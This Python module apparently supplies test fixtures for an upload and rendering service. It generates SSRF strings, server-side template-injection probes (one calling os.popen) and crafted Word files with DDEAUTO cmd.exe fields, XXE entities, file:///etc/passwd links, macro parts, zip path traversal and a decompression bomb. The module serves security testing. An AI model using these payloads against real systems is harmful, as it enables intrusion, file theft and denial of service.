"""Hostile texts for papers, and hostile Word files that somebody may upload as a template."""

import io
import zipfile
from collections.abc import Callable

import docx

#: What a language of templates would make of 7331*7.
MADE = "51317"


def fetching(url: str) -> tuple[str, ...]:
    """Forty texts, each of which makes some renderer fetch an address."""
    return (
        f'<img src="{url}">',
        f'<img srcset="{url} 2x">',
        f'<script src="{url}"></script>',
        f'<link rel=stylesheet href="{url}">',
        f'<link rel=attachment href="{url}">',
        f'<link rel=preload as=image href="{url}">',
        f'<link rel=icon href="{url}">',
        f"<style>@import url({url});</style>",
        f'<style>@font-face{{font-family:x;src:url("{url}")}} *{{font-family:x}}</style>',
        f"<style>body{{background:url({url})}}</style>",
        f'<p style="background:url({url})">x</p>',
        f'<iframe src="{url}"></iframe>',
        f'<iframe srcdoc="&lt;img src={url}&gt;"></iframe>',
        f'<object data="{url}"></object>',
        f'<embed src="{url}">',
        f'<video poster="{url}" src="{url}" autoplay></video>',
        f'<audio src="{url}" autoplay></audio>',
        f'<svg><image href="{url}"/></svg>',
        f'<svg><image xlink:href="{url}"/></svg>',
        f'<svg><use href="{url}#a"/></svg>',
        f'<svg><style>@import "{url}";</style></svg>',
        f'<svg><script href="{url}"/></svg>',
        f'<svg><foreignObject><img src="{url}"/></foreignObject></svg>',
        f'<meta http-equiv=refresh content="0;url={url}">',
        f'<base href="{url}"><img src=a>',
        f'<form action="{url}"><input autofocus onfocus=this.form.submit()></form>',
        f'"><img src="{url}" onerror="fetch(\'{url}\')">',
        f"'\"></title><img src={url}>",
        f"</style></head><body><img src={url}>",
        f"]]><img src={url}><![CDATA[",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x>&e;</x>',
        f'<?xml-stylesheet href="{url}"?>',
        f"![x]({url})",
        f'#image("{url}")',
        f'#link("{url}")[x] #read("{url}")',
        '#import "@preview/tablex:0.0.8": *',
        f'{{ INCLUDEPICTURE "{url}" \\d }}',
        f'{{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {url}" }}',
        f'<w:fldSimple w:instr="INCLUDETEXT &quot;{url}&quot;"/>',
        f"</w:t></w:r><w:altChunk r:id='x'/><!-- {url} -->",
    )


#: Twenty texts, each of which some language of templates calculates.
CALCULATING = (
    "{{7331*7}}",
    "{{ 7331*7 }}",
    "{% set x = 7331*7 %}{{x}}",
    "{%for c in [1]%}{{c*7331*7}}{%endfor%}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.eval('7331*7')}}",
    "{{cycler.__init__.__globals__.os.popen('echo 51317').read()}}",
    "{# 51 #}{{7331*7}}",
    "${7331*7}",
    "#{7331*7}",
    "<%= 7331*7 %>",
    "#(7331*7)",
    "#{ 7331 * 7 }[x]",
    '#eval("7331*7")',
    "#calc.pow(7331, 1) #panic[x] #sys.version",
    "$ 7331 dot 7 $ #set page(width: 1pt)",
    "*[[7331*7]]* _[(${T(java.lang.Runtime)})]_",
    "%{7331*7} @(7331*7)",
    "{= 7331*7 } =7331*7 {{=7331*7}}",
)


def word_file(*texts: str, change: Callable[[dict[str, bytes]], None] | None = None) -> bytes:
    """Write a Word file of paragraphs; `change` may then alter its parts."""
    word = docx.Document()
    for text in texts or ("{{title}}", "{{body}}"):
        word.add_paragraph(text)
    out = io.BytesIO()
    word.save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    if change:
        change(parts)
    return packed(parts)


def packed(parts: dict[str, bytes]) -> bytes:
    """Pack parts into an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _body(inner: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/document.xml"
        parts[name] = parts[name].replace(b"<w:body>", b"<w:body>" + inner.encode(), 1)

    return change


def _relation(
    kind: str, target: str, mode: str = "External", part: str = "document"
) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        name = f"word/_rels/{part}.xml.rels"
        base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        row = f'<Relationship Id="rHostile" Type="{base}{kind}" Target="{target}" TargetMode="{mode}"/>'
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[name] = parts.get(name, empty).replace(b"</Relationships>", row.encode() + b"</Relationships>")

    return change


def _part(name: str, content: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = content

    return change


def _kinds(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(old, new)

    return change


def _field(*codes: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def hostile_files(url: str) -> dict[str, bytes]:
    """Thirty Word files that fetch, run, embed, swell or are none."""
    changes: dict[str, Callable[[dict[str, bytes]], None]] = {
        "picture from elsewhere": _relation("image", url),
        "template from elsewhere": _relation("attachedTemplate", url, part="settings"),
        "template from a file": _relation("attachedTemplate", "file:///etc/passwd", part="settings"),
        "template from a share": _relation("attachedTemplate", "\\\\127.0.0.1\\x\\y.dotm", part="settings"),
        "object from elsewhere": _relation("oleObject", url),
        "frame from elsewhere": _relation("frame", url, part="webSettings"),
        "joined document": _relation("subDocument", url),
        "link to a file": _relation("hyperlink", "file:///etc/passwd"),
        "link to a program": _relation("hyperlink", "javascript:alert(1)"),
        "inner link that leads outside": _relation("image", url, mode="Internal"),
        "picture field": _body(_field(f'INCLUDEPICTURE "{url}" \\d')),
        "picture field in pieces": _body(_field("INCL", "UDEPIC", f'TURE "{url}"')),
        "text field": _body(f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{url}&quot;"/></w:p>'),
        "exchange field": _body(_field('DDEAUTO c:\\\\cmd.exe "/k calc"')),
        "exchange field in pieces": _body(_field("DD", "EAUTO x y")),
        "link field": _body(_field("LINK Excel.Sheet.8 x.xls")),
        "hyperlink field": _body(_field(f'HYPERLINK "{url}"')),
        "database field": _body(_field("DATABASE \\d x")),
        "field without a beginning": _body(
            f'<w:p><w:r><w:instrText>INCLUDEPICTURE "{url}"</w:instrText></w:r></w:p>'
        ),
        "chunk of another kind": _body('<w:altChunk r:id="rHostile"/>'),
        "embedded object": _body("<w:p><w:r><w:object/></w:r></w:p>"),
        "old picture from elsewhere": _body(
            f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{url}"/></v:shape>'
            "</w:pict></w:r></w:p>"
        ),
        "macros": _part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        "macros by kind": _kinds(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"),
        "control": _part("word/activeX/activeX1.xml", b"<x/>"),
        "packed file": _part("word/embeddings/oleObject1.bin", b"MZ"),
        "declaration": _part(
            "word/footnotes.xml", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x>&e;</x>'.encode()
        ),
        "bomb": _part("word/media/big.png", b"\0" * (30 * 1024 * 1024)),
        "way out of the folder": _part("../../evil.xml", b"<x/>"),
        "spreadsheet": _kinds(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main"),
    }
    made = {name: word_file(change=change) for name, change in changes.items()}
    return {**made, "no archive": b"%PDF-1.7", "half an archive": word_file()[:900]}
